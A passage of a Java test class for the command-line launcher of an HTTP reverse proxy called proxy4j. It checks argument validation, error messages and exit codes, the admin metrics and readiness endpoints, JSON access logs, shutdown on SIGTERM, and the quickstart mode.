    void exitsWith1NamingTheEncodingWhenBrotlisNativeLibraryIsMissing() throws Exception {
        String classPath = java.util.Arrays.stream(System.getProperty("java.class.path").split(java.io.File.pathSeparator))
                .filter(entry -> !entry.contains("brotli4j" + java.io.File.separator + "native-"))
                .collect(java.util.stream.Collectors.joining(java.io.File.pathSeparator));
        Process process = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-cp", classPath, Launcher.class.getName(), "run", "--port", "0", "--compress",
                "--upstream", "http://127.0.0.1:9").redirectErrorStream(true).start();
        String output = finish(process);

        assertThat(process.exitValue()).isEqualTo(1);
        assertThat(output).contains("proxy4j: compression: br cannot be loaded (java.lang.UnsatisfiedLinkError:")
                .contains("or leave br out of the encodings").doesNotContain("\tat ");
    }

    /** Waits up to 20 s for a line containing {@code text}; fails showing what was printed. */
    private static String awaitLine(List<String> output, String text) throws InterruptedException {
        for (int i = 0; i < 200; i++) {
            for (String line : output) {
                if (line.contains(text)) {
                    return line;
                }
            }
            Thread.sleep(100);
        }
        throw new AssertionError("expected a line containing " + text + " but the launcher printed: " + output);
    }
    @Test
    void exitsWith2AndNamesTheValueWhenTheAccessLogFormatIsUnknown() throws Exception {
        Process process = launch("run", "--port", "0", "--upstream", "http://127.0.0.1:9", "--access-log-format", "xml");
        String output = finish(process);

        assertThat(process.exitValue()).isEqualTo(2);
        assertThat(output).contains("proxy4j: --access-log-format: \"xml\" (expected: one of default, combined, json)");
    }

    @Test
    void exitsWith2WhenTheAdminPortIsNotAPort() throws Exception {
        Process process = launch("run", "--upstream", "http://127.0.0.1:9", "--admin-port", "70000");
        String output = finish(process);

        assertThat(process.exitValue()).isEqualTo(2);
        assertThat(output).contains("proxy4j: --admin-port: \"70000\" (expected: a number 0..65535)");
    }

    @Test
    void servesTheAdminEndpointWithMetricsAndLogsJsonLines() throws Exception {
        Server api = Quickstart.demoBackend("api");
        Process process = launch("run", "--port", "0", "--host", "127.0.0.1", "--admin-port", "0",
                "--access-log-format", "json", "--upstream", Quickstart.uri(api));
        List<String> output = new CopyOnWriteArrayList<>();
        Thread pump = new Thread(() -> {
            try (BufferedReader out = new BufferedReader(
                    new InputStreamReader(process.getInputStream(), StandardCharsets.UTF_8))) {
                for (String line; (line = out.readLine()) != null; ) {
                    output.add(line);
                }
            } catch (java.io.IOException e) {
                output.add(e.toString());
            }
        });
        pump.start();
        try {
            String announced = awaitLine(output, "proxy4j listening on port ");
            int port = Integer.parseInt(announced.substring("proxy4j listening on port ".length()));
            String admin = awaitLine(output, "proxy4j admin on http://127.0.0.1:");
            URI adminUri = URI.create(admin.substring("proxy4j admin on ".length()));
            assertThat(awaitLine(output, "proxy4j started: ")).contains("listeners http://127.0.0.1:" + port,
                    "; 1 route; upstreams ", "; admin http://127.0.0.1:" + adminUri.getPort(), "; metrics on");

            HttpClient client = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
            HttpResponse<String> toApi = client.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/users"))
                    .header("User-Agent", "launcher-test").timeout(Duration.ofSeconds(10)).build(),
                    HttpResponse.BodyHandlers.ofString());
            assertThat(toApi.statusCode()).isEqualTo(200);
            assertThat(awaitLine(output, "{\"time\":")).contains("\"method\":\"GET\",\"target\":\"/users\"",
                    "\"status\":200", "\"userAgent\":\"launcher-test\"");

            String metrics = client.send(HttpRequest.newBuilder(adminUri.resolve("/metrics")).build(),
                    HttpResponse.BodyHandlers.ofString()).body();
            assertThat(metrics).contains("http_server_requests_seconds_count{error=\"none\",method=\"GET\","
                    + "outcome=\"SUCCESS\",route=\"path=/\",status=\"2xx\"} 1");
            assertThat(client.send(HttpRequest.newBuilder(adminUri.resolve("/ready")).build(),
                    HttpResponse.BodyHandlers.ofString()).body()).isEqualTo("{\"status\":\"ready\"}\n");
            assertThat(client.send(HttpRequest.newBuilder(adminUri.resolve("/upstreams")).build(),
                    HttpResponse.BodyHandlers.ofString()).body()).contains("\"uri\":\"" + Quickstart.uri(api) + "\"");
            // SIGTERM through the handle: Process.destroy() would also close the launcher's output here.
            process.toHandle().destroy();
            // The launcher stops the proxy on SIGTERM, which says so in one line.
            assertThat(awaitLine(output, "proxy4j stopped: ")).contains("drained 0 of 0 requests in flight in ");
        } finally {
            process.destroy();
            assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
            pump.join(10_000);
            api.stop();
        }
    }

    @Test
    void theQuickstartTakesAPort() throws Exception {
        Process process = launch("--port", "0");
        try (BufferedReader out = new BufferedReader(new InputStreamReader(process.getInputStream(), StandardCharsets.UTF_8))) {
            String line = out.readLine();
            while (line != null && !line.startsWith("proxy4j quickstart: proxy on port ")) {
                line = out.readLine();
            }
            assertThat(line).isNotNull();
            int port = Integer.parseInt(line.substring("proxy4j quickstart: proxy on port ".length()).split(",")[0]);
            HttpResponse<String> response = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                    URI.create("http://127.0.0.1:" + port + "/b/hello")).timeout(Duration.ofSeconds(10)).build(),
                    HttpResponse.BodyHandlers.ofString());
            assertThat(response.body()).startsWith("backend-2 got GET /hello");
        } finally {
            process.toHandle().destroy();
            assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
        }
    }

    @Test
    void theQuickstartsPortMustBeAPort() throws Exception {
        Process process = launch("--port", "80a");
        String output = finish(process);

        assertThat(process.exitValue()).isEqualTo(2);
        assertThat(output).contains("proxy4j: --port: \"80a\" (expected: a number 0..65535)");
    }
}
